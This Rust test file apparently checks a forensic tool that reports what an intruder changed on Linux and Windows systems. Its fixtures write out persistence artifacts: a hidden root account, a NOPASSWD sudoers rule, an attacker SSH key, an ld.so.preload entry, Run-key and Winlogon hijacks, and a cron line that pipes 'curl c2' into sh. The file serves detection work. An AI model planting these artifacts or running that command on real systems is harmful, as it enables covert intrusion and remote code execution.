use super::*;
use crate::{MemoryFiles, testing::Node, windows::HIVES};

fn changes(before: &MemoryFiles, after: &MemoryFiles) -> Vec<String> {
    let facts = [before, after].map(|files| Facts::of(files));
    assert_eq!(facts[1].unread(), facts[0].unread());
    let text = |side: &Option<String>| side.clone().unwrap_or_else(|| "-".to_owned());
    let line = |change: &Change| {
        format!("{} {}: {} > {}", change.topic, change.subject, text(&change.before), text(&change.after))
    };
    facts[1].since(&facts[0]).iter().map(line).collect()
}

fn linux() -> MemoryFiles {
    [
        ("/etc/passwd", "root:x:0:0::/top:/bin/bash\nann:x:1000:1000::/people/ann:/bin/bash\n"),
        ("/etc/shadow", "root:!:1\nann:$6$saltsalt$secretsecret:1\n"),
        ("/etc/group", "sudo:x:27:\nann:x:1000:\n"),
        ("/etc/sudoers", "%sudo ALL=(ALL:ALL) ALL\n"),
        ("/etc/ssh/sshd_config", "Port 22\nPasswordAuthentication no\n"),
        ("/etc/crontab", "# nothing\n"),
        ("/people/ann/.bashrc", "alias l=ls\n"),
    ]
    .into_iter()
    .collect()
}

#[test]
fn what_an_intruder_leaves_on_linux_is_told() {
    let before = linux();
    let mut after = linux();
    assert_eq!(changes(&before, &after), [""; 0]);
    let shadow = "root:!:1\nann:$6$saltsalt$anothersecret:1\nevil:$y$j9T$salt$hiddenhidden:1\n";
    let passwd =
        "root:x:0:0::/top:/bin/bash\nann:x:1000:1000::/people/ann:/bin/bash\nevil:x:0:0::/top:/bin/sh\n";
    after.add("/etc/passwd", passwd);
    after.add("/etc/shadow", shadow);
    after.add("/etc/group", "sudo:x:27:evil\nann:x:1000:\n");
    after.add("/etc/sudoers.d/90", "evil ALL=(ALL) NOPASSWD: ALL\n");
    after.add("/etc/ssh/sshd_config", "Port 22\nPort 2222\nPasswordAuthentication yes\n");
    after.add("/top/.ssh/authorized_keys", format!("ssh-ed25519 {}THE-END evil@c2\n", "A".repeat(60)));
    after.add("/etc/cron.d/x", "* * * * * root curl c2|sh\x1b[2J\n");
    after.add("/etc/systemd/system/x.service", "[Service]\nExecStart=/bin/x\n");
    after.add("/etc/systemd/system/multi-user.target.wants/x.service", "");
    after.add("/etc/systemd/system/x.socket", "[Socket]\nListenStream=31337\n");
    after.add("/etc/ld.so.preload", "/lib/x.so\n");
    after.add("/etc/modules-load.d/x.conf", "rootkit\n");
    after.add("/people/ann/.bashrc", "alias s=sh\n");
    let told = changes(&before, &after);
    let expect = [
        "account evil: - > number 0, group 0, home /top, shell /bin/sh",
        // As an account with the home of root, it takes the keys of root.
        "authorized key evil: ssh-ed25519 ...AAAAATHE-END evil@c2: - > /top/.ssh/authorized_keys",
        "authorized key root: ssh-ed25519 ...AAAAATHE-END evil@c2: - > /top/.ssh/authorized_keys",
        "cron /etc/cron.d/x: * * * * * root curl c2|sh\u{fffd}[2J: - > set",
        "enabled service /etc/systemd/system/multi-user.target.wants/x.service: - > enabled",
        "kernel module /etc/modules-load.d/x.conf: rootkit: - > set",
        "listening /etc/systemd/system/x.socket: ListenStream=31337: - > set",
        "listening sshd port 2222: - > set",
        "member of group sudo: evil: - > member",
        "password ann: set > set (changed)",
        "password evil: - > set",
        "preload /etc/ld.so.preload: /lib/x.so: - > set",
        "profile script /people/ann/.bashrc: 11 bytes > 11 bytes (changed)",
        "service /etc/systemd/system/x.service: - > 27 bytes, ExecStart=/bin/x",
        "sshd passwordauthentication: no > yes",
        "sudo /etc/sudoers.d/90: evil ALL=(ALL) NOPASSWD: ALL: - > set",
    ];
    assert_eq!(told, expect);
    let all = format!("{told:?}{:?}", Facts::of(&after));
    assert!(!all.contains("hiddenhidden") && !all.contains("secret"), "{all}");
}

fn windows(change: impl Fn(&mut [Node; 3])) -> MemoryFiles {
    let mut hives = ["SAM", "SYSTEM", "SOFTWARE"].map(Node::new);
    let [sam, system, software] = &mut hives;
    account(sam, "ann", 1_001, 0x210);
    sam.at(r"SAM\Domains\Account").set("F", 3, vec![0; 0x58]);
    system.at("Select").number("Current", 1);
    system.at(r"ControlSet001\Services\Dhcp").text("ImagePath", "svchost.exe").number("Start", 2);
    system.at(r"ControlSet001\Control\Terminal Server").number("fDenyTSConnections", 1);
    software.at(r"Microsoft\Windows NT\CurrentVersion\Winlogon").text("Shell", "explorer.exe");
    change(&mut hives);
    let names = ["SAM", "SYSTEM", "SOFTWARE"].into_iter();
    names.zip(hives).map(|(name, hive)| (format!("{HIVES}/{name}"), hive.hive())).collect()
}

fn account(sam: &mut Node, name: &str, number: u32, flags: u16) {
    sam.at(r"SAM\Domains\Account\Users\Names").at(name).set("", number, vec![]);
    let mut f = vec![0; 0x50];
    f[0x38..0x3a].copy_from_slice(&flags.to_le_bytes());
    sam.at(&format!(r"SAM\Domains\Account\Users\{number:08X}")).set("F", 3, f).set("V", 3, *b"hash");
}

#[test]
fn what_an_intruder_leaves_on_windows_is_told() {
    let before = windows(|_| {});
    let after = windows(|[sam, system, software]| {
        account(sam, "evil", 1_002, 0x211);
        system.at(r"ControlSet001\Services\evil").text("ImagePath", r"C:\evil.exe").number("Start", 2);
        system.at(r"ControlSet001\Control\Terminal Server").number("fDenyTSConnections", 0);
        software.at(r"Microsoft\Windows\CurrentVersion\Run").text("x", r"C:\x.exe");
        software.at(r"Microsoft\Windows NT\CurrentVersion\Winlogon").text("Shell", "explorer.exe, x");
    });
    let expect = [
        "account evil: - > number 1002, disabled, flags 0x211",
        r"listening ControlSet001\Control\Terminal Server\fDenyTSConnections: 1 > 0",
        "password evil: - > never set",
        r"run key Microsoft\Windows\CurrentVersion\Run\x: - > C:\x.exe",
        r"service evil: - > Start 2, ImagePath C:\evil.exe",
        r"start Microsoft\Windows NT\CurrentVersion\Winlogon\Shell: explorer.exe > explorer.exe, x",
    ];
    assert_eq!(changes(&before, &after), expect);
    assert_eq!(changes(&after, &after), [""; 0]);
}
